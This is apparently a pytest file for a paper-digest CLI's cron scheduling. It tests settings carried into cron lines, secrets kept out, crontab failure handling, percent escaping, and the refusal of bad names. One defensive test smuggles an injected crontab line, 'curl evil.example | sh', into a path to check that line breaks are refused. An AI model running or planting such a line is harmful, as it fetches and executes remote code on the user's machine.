"""The crontab line carries every setting in force that is not in the config file, so the cron
run (in cron's bare environment) uses the same store, config and upstreams."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess

import pytest

from papercli.errors import ExitCode
from papercli.schedule import settings_for_cron
from tests.cli_helpers import run_cli


def write_digest_config(path) -> None:
    path.write_text('[digest.diff]\nsources = ["hf"]\ntopics = ["diffusion"]\n')


def test_the_scheduled_line_under_env_i_uses_the_same_store_and_config(
    papercli_home, tmp_path, monkeypatch
) -> None:
    config = tmp_path / "conf" / "papercli.toml"
    config.parent.mkdir()
    write_digest_config(config)
    (tmp_path / "stores").mkdir()
    db = tmp_path / "stores" / "mine.db"
    monkeypatch.setenv("PAPERCLI_DB", str(db))
    monkeypatch.setenv("PAPERCLI_ARXIV_URL", "http://127.0.0.1:9/mirror")
    monkeypatch.setenv("PAPERCLI_SMTP_PASSWORD", "hunter2")
    result = run_cli("--config", str(config), "schedule", "diff", "--at", "06:15")
    assert result.code == 0, result.err
    line = result.out.strip()
    assert "hunter2" not in line and "PAPERCLI_SMTP_PASSWORD" not in line
    # The line's command, asked `status` and `config path` instead of `run diff`, in a bare
    # environment as cron gives it.
    command = line.split(" ", 5)[5].split(" >> ")[0]
    assert command.endswith(" run diff")
    words = shlex.split(command)[: -len(["run", "diff"])]
    status = subprocess.run(
        ["env", "-i", *words, "status", "--json"], capture_output=True, text=True
    )
    assert status.returncode == 0, status.stderr
    assert json.loads(status.stdout)["db"] == str(db)
    where = subprocess.run(["env", "-i", *words, "config", "path"], capture_output=True, text=True)
    assert where.stdout.strip() == str(config)
    assert "PAPERCLI_ARXIV_URL=http://127.0.0.1:9/mirror" in words


def test_a_db_given_to_schedule_goes_into_the_line(papercli_home, tmp_path) -> None:
    write_digest_config(papercli_home / "config.toml")
    db = tmp_path / "other.db"
    line = run_cli("schedule", "diff", "--db", str(db)).out
    assert f" --db {db} " in line


def test_secrets_and_the_config_variable_are_left_out() -> None:
    environ = {
        "PAPERCLI_DB": "rel/papers.db",
        "PAPERCLI_SMTP_PASSWORD": "x",
        "PAPERCLI_CONFIG": "/c.toml",
        "PAPERCLI_TIMEOUT": "9",
        "HOME": "/root",
    }
    from pathlib import Path

    assert settings_for_cron(environ) == {
        "PAPERCLI_DB": str(Path("rel/papers.db").absolute()),
        "PAPERCLI_TIMEOUT": "9",
    }


# -- installing into a crontab that can fail -----------------------------------------------------

OTHER_JOBS = "0 1 * * * backup --all\n*/5 * * * * check-mail\n"


def fake_crontab(tmp_path, monkeypatch, *, list_fails: str | None = None):
    """A stand-in crontab(1) on PATH keeping the table in a file (it is not papercli's code).
    With `list_fails`, `crontab -l` prints that to stderr and exits 1, as cron does on errors.
    Returns (table file, file logging each invocation's arguments)."""
    table, calls = tmp_path / "crontab.txt", tmp_path / "calls.txt"
    table.write_text(OTHER_JOBS)
    listing = f"echo {shlex.quote(list_fails)} >&2; exit 1" if list_fails else f"cat {table}"
    fake = tmp_path / "bin" / "crontab"
    fake.parent.mkdir()
    fake.write_text(
        f'#!/bin/sh\necho "$*" >> {calls}\n'
        f'if [ "$1" = "-l" ]; then {listing}; else cat > {table}; fi\n'
    )
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake.parent}:{os.environ['PATH']}")
    return table, calls


@pytest.mark.parametrize(
    "failure",
    [
        "crontab: cannot open /var/spool/cron/crontabs: Permission denied",
        "crontab: your UID isn't in the passwd file. bailing out.",
        "",
    ],
)
def test_a_failing_crontab_listing_leaves_the_table_alone(
    papercli_home, tmp_path, monkeypatch, failure
):
    write_digest_config(papercli_home / "config.toml")
    table, calls = fake_crontab(tmp_path, monkeypatch, list_fails=failure or None)
    if not failure:  # a listing that fails without a word
        (tmp_path / "bin" / "crontab").write_text(
            f'#!/bin/sh\necho "$*" >> {calls}\nif [ "$1" = "-l" ]; then exit 2; '
            f"else cat > {table}; fi\n"
        )
    result = run_cli("schedule", "diff", "--install")
    assert result.code == ExitCode.CONFIG, result.err
    reason = " ".join(failure.split()) or "exit status 2"
    assert result.err.strip() == (
        f"Error: `crontab -l` failed ({reason}); the crontab was left as it is; "
        "fix crontab first, or add the printed line by hand"
    )
    assert table.read_text() == OTHER_JOBS
    assert calls.read_text().splitlines() == ["-l"]


def test_no_crontab_yet_is_an_empty_table(papercli_home, tmp_path, monkeypatch):
    write_digest_config(papercli_home / "config.toml")
    table, calls = fake_crontab(tmp_path, monkeypatch, list_fails="no crontab for reader")
    result = run_cli("schedule", "diff", "--install")
    assert result.code == 0, result.err
    (row,) = table.read_text().splitlines()
    assert row.endswith("# papercli:diff") and row == result.out.strip()
    assert calls.read_text().splitlines() == ["-l", "-"]


@pytest.mark.parametrize("variable", ["PAPERCLI_HOME", "PAPERCLI_DB"])
def test_a_line_break_in_a_path_is_refused(papercli_home, tmp_path, monkeypatch, variable):
    table, calls = fake_crontab(tmp_path, monkeypatch)
    home = tmp_path / "home\n* * * * * curl evil.example | sh\n"
    home.mkdir()
    write_digest_config(home / "config.toml")
    monkeypatch.setenv("PAPERCLI_HOME", str(home if variable == "PAPERCLI_HOME" else papercli_home))
    if variable == "PAPERCLI_DB":
        write_digest_config(papercli_home / "config.toml")
        monkeypatch.setenv("PAPERCLI_DB", str(home / "papers.db"))
    result = run_cli("schedule", "diff", "--install")
    assert result.code == ExitCode.CONFIG, result.err
    assert result.err.startswith(f"Error: {variable} holds a line break")
    assert result.out == ""
    assert table.read_text() == OTHER_JOBS
    assert not calls.exists()


def cron_command(line: str) -> str:
    """The command cron hands to /bin/sh for a crontab line (crontab(5)): after the five time
    fields, up to the first unescaped %, with each \\% turned into %."""
    command = line.split(" ", 5)[5]
    end = re.search(r"(?<!\\)%", command)
    return (command[: end.start()] if end else command).replace("\\%", "%")


def test_a_percent_sign_in_a_path_reaches_the_command_whole(papercli_home, tmp_path, monkeypatch):
    home = tmp_path / "50%_off"
    (home / "store%d").mkdir(parents=True)
    write_digest_config(home / "config.toml")
    monkeypatch.setenv("PAPERCLI_HOME", str(home))
    monkeypatch.setenv("PAPERCLI_DB", str(home / "store%d" / "papers.db"))
    result = run_cli("schedule", "diff")
    assert result.code == 0, result.err
    line = result.out.strip()
    assert "\\%" in line and not re.search(r"(?<!\\)%", line)
    # Run the command as cron would, asking `status --json` instead of `run diff`.
    command = cron_command(line).replace(" run diff >> ", " status --json >> ")
    done = subprocess.run(["env", "-i", "/bin/sh", "-c", command], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    logged = (home / "logs" / "diff.log").read_text()
    assert json.loads(logged)["db"] == str(home / "store%d" / "papers.db")


@pytest.mark.parametrize("name", ["--help", "-x"])
def test_a_digest_named_like_an_option_is_refused(papercli_home, tmp_path, monkeypatch, name):
    table, calls = fake_crontab(tmp_path, monkeypatch)
    (papercli_home / "config.toml").write_text(f'[digest."{name}"]\nsources = ["hf"]\n')
    result = run_cli("schedule", "--install", "--", name)
    assert result.code == ExitCode.USAGE, result.err
    assert f"digest name {name!r} may only hold" in result.err
    assert "may not start with '-'" in result.err
    assert table.read_text() == OTHER_JOBS and not calls.exists()
